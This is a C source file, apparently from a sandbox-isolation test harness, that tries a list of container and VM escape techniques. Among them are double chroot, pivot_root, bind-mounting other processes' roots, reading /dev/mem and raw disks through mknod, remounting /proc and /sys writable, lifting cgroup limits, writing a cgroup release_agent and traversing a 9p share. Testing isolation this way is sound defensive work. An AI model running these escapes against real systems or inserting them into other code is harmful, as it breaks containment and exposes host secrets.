/* By another root, by mounts, by device files. */
#include "escape.h"

static long mount_at(const char *source, const char *at, const char *type, unsigned long flags, const char *data) {
  return tried("mount", join(type ? type : "bind", " ", source, 0, 0), syscall5(SYS_mount, (long)source, (long)at, (long)type, (long)flags, (long)data));
}
static void unmount(const char *at) { syscall(SYS_umount2, at, MNT_DETACH, 0); }

/* A root may be left by who has an open folder above it. */
static void chroot_twice(void) {
  const char *at = jail();
  long above = open_at("/", O_RDONLY | O_DIRECTORY);
  if (tried("chroot", at, syscall(SYS_chroot, at, 0, 0)) < 0) return;
  tried("fchdir", "the open folder", syscall(SYS_fchdir, above, 0, 0));
  for (int i = 0; i < 64; i++) syscall(SYS_chdir, "..", 0, 0);
  tried("chroot", ".", syscall(SYS_chroot, ".", 0, 0));
  for (int i = 0; i < clues.secret_count; i++) look(clues.secrets[i]);
}

static void pivot(void) {
  const char *at = jail();
  tried("unshare", "mnt", syscall(SYS_unshare, NEW_NS, 0, 0));
  syscall5(SYS_mount, 0, (long)"/", 0, MS_REC | MS_PRIVATE, 0);
  mount_at("tmpfs", at, "tmpfs", 0, 0);
  syscall(SYS_mkdirat, AT_FDCWD, join(at, "/old", 0, 0, 0), 0755);
  if (tried("pivot_root", at, syscall(SYS_pivot_root, at, join(at, "/old", 0, 0, 0), 0)) == 0)
    for (int i = 0; i < clues.secret_count; i++) {
      look(join("/old", clues.secrets[i], 0, 0, 0));
      look(join("/old/../..", clues.secrets[i], 0, 0, 0));
    }
  unmount(at);
}

/* What a mount hides may be seen when it is gone. */
static void unmount_root(void) {
  tried("unshare", "mnt", syscall(SYS_unshare, NEW_NS, 0, 0));
  tried("umount2", "/", syscall(SYS_umount2, "/", MNT_DETACH, 0));
  tried("umount2", "/proc", syscall(SYS_umount2, "/proc", MNT_DETACH, 0));
  for (int i = 0; i < clues.secret_count; i++) look(clues.secrets[i]);
  look("/../secret");
}

static void mount_proc(void) {
  const char *at = jail();
  if (mount_at("proc", at, "proc", 0, 0) < 0) return;
  look_through(at);
  unmount(at);
}

static void bind_of(int pid) {
  const char *at = jail();
  if (mount_at(join("/proc/", number(pid), "/root", 0, 0), at, 0, MS_BIND | MS_REC, 0) < 0) return;
  for (int i = 0; i < clues.secret_count; i++) look(join(at, clues.secrets[i], 0, 0, 0));
  unmount(at);
}
static void mount_bind(void) { each_pid(bind_of); }

static void tree_of(int pid) {
  enum { CLONE_TREE = 1 };
  long fd = tried("open_tree", number(pid), syscall(SYS_open_tree, AT_FDCWD, join("/proc/", number(pid), "/root", 0, 0), CLONE_TREE));
  for (int i = 0; fd >= 0 && i < clues.secret_count; i++) {
    long inner = syscall5(SYS_openat, fd, (long)clues.secrets[i] + 1, O_RDONLY, 0, 0);
    if (inner >= 0) look_fd((int)inner);
  }
}
static void mount_tree(void) {
  each_pid(tree_of);
  tried("fsopen", "proc", syscall(SYS_fsopen, "proc", 0, 0));
}

static void mount_devices(void) {
  const char *at = jail();
  if (mount_at("dev", at, "devtmpfs", 0, 0) < 0) return;
  static const char *const names[] = {"mem", "kmem", "port", "vda", "sda", "nvme0n1"};
  for (int i = 0; i < 6; i++) look(join(at, "/", names[i], 0, 0));
  unmount(at);
}

static void device(const char *what, int type, unsigned major, unsigned minor) {
  const char *name = join(jail(), "/node", 0, 0, 0);
  if (tried("mknodat", what, syscall5(SYS_mknodat, AT_FDCWD, (long)name, type | 0600, major << 8 | minor, 0)) < 0) return;
  long fd = open_at(name, O_RDONLY);
  if (fd >= 0) {
    look_fd((int)fd);
    /* Where RAM begins. */
    syscall(SYS_lseek, fd, 0x80000000, 0);
    look_fd((int)fd);
    sys_close((int)fd);
  }
  if (type == S_IFBLK) {
    const char *at = join(jail(), "-disk", 0, 0, 0);
    syscall(SYS_mkdirat, AT_FDCWD, at, 0755);
    if (mount_at(name, at, "ext4", MS_RDONLY, 0) == 0) {
      for (int i = 0; i < clues.secret_count; i++) look(join(at, clues.secrets[i], 0, 0, 0));
      unmount(at);
    }
  }
  syscall(SYS_unlinkat, AT_FDCWD, name, 0);
}

static void device_memory(void) {
  device("c 1 1", S_IFCHR, 1, 1);
  device("c 1 2", S_IFCHR, 1, 2);
  device("c 1 4", S_IFCHR, 1, 4);
  look("/dev/mem");
  look("/proc/kcore");
}

static void device_disk(void) {
  device("b 8 0", S_IFBLK, 8, 0);
  device("b 254 0", S_IFBLK, 254, 0);
  device("b 259 0", S_IFBLK, 259, 0);
}

/* What is read-only or hidden in /proc and /sys, made writable and uncovered. */
static void remount(void) {
  static const char *const places[] = {"/proc/sys", "/sys", "/sys/fs/cgroup", "/"};
  for (int i = 0; i < 4; i++)
    tried("mount", join("remount ", places[i], 0, 0, 0), syscall5(SYS_mount, 0, (long)places[i], 0, MS_REMOUNT | MS_BIND, 0));
  static const char *const covered[] = {"/proc/sys", "/proc/kcore", "/sys/firmware", "/proc/keys"};
  for (int i = 0; i < 4; i++) tried("umount2", covered[i], syscall(SYS_umount2, covered[i], MNT_DETACH, 0));
  write_file("/proc/sys/kernel/hostname", "escaped");
  look("/proc/kcore");
}

static void groups_below(const char *at) {
  static const char *const files[] = {"memory.max", "pids.max"};
  for (int i = 0; i < 2; i++) {
    write_file(join(at, "/", files[i], 0, 0), "max");
    if (clues.group) write_file(join(at, clues.group, "/", files[i], 0), "max");
  }
  write_file(join(at, "/cgroup.procs", 0, 0, 0), "0");
  write_file(join(at, "/../cgroup.procs", 0, 0, 0), "0");
  if (clues.group) write_file(join(at, clues.group, "/cgroup.procs", 0, 0), "0");
}
static void control_groups(void) { groups_below("/sys/fs/cgroup"); }

static void mount_groups(void) {
  const char *at = jail();
  if (mount_at("cgroup", at, "cgroup2", 0, 0) == 0) {
    groups_below(at);
    unmount(at);
  }
  /* Version 1 has programs of the host run when a group is empty. */
  if (mount_at("cgroup", at, "cgroup", 0, "rdma") == 0) {
    write_file(join(at, "/release_agent", 0, 0, 0), "/escaped");
    unmount(at);
  }
}

/* Where guests of the lab have it. */
#define GIVEN "/mnt/host"

/* The folder that a VM shares, mounted anew under names that lead out of it. */
static void mount_share(void) {
  const char *at = jail();
  const char *names[] = {"..", "/..", "../..", "/", clues.folder ? clues.folder : "/"};
  /* Where it is mounted already the device has no other channel. */
  int bound = clues.folder && tried("umount2", clues.folder, syscall(SYS_umount2, clues.folder, MNT_DETACH, 0)) == 0;
  tried("umount2", GIVEN, syscall(SYS_umount2, GIVEN, MNT_DETACH, 0));
  for (int i = 0; i < 5; i++) {
    if (mount_at("host", at, "9p", 0, join("trans=virtio,version=9p2000.L,aname=", names[i], 0, 0, 0)) < 0) continue;
    look(join(at, "/secret", 0, 0, 0));
    look(join(at, "/../secret", 0, 0, 0));
    for (int s = 0; s < clues.secret_count; s++) look(join(at, clues.secrets[s], 0, 0, 0));
    unmount(at);
  }
  syscall5(SYS_mount, (long)"host", (long)GIVEN, (long)"9p", 0, (long)"trans=virtio,version=9p2000.L");
  if (bound) syscall5(SYS_mount, (long)GIVEN, (long)clues.folder, 0, MS_BIND, 0);
}

/* Root of a user namespace of one's own may mount. */
static void user_namespace(void) {
  if (tried("unshare", "user", syscall(SYS_unshare, NEW_USER | NEW_NS, 0, 0)) < 0) return;
  tried("sethostname", "escaped", syscall(SYS_sethostname, "escaped", 7, 0));
  const char *at = jail();
  if (mount_at("proc", at, "proc", 0, 0) == 0) {
    look_through(at);
    unmount(at);
  }
  mount_bind();
}

const struct attempt mount_attempts[] = {
    {"chroot-twice", chroot_twice},
    {"pivot-root", pivot},
    {"unmount-root", unmount_root},
    {"mount-proc", mount_proc},
    {"mount-bind", mount_bind},
    {"mount-tree", mount_tree},
    {"mount-devices", mount_devices},
    {"mount-share", mount_share},
    {"remount", remount},
    {"user-namespace", user_namespace},
    {"device-memory", device_memory},
    {"device-disk", device_disk},
    {"cgroup", control_groups},
    {"mount-cgroup", mount_groups},
    {0, 0},
};
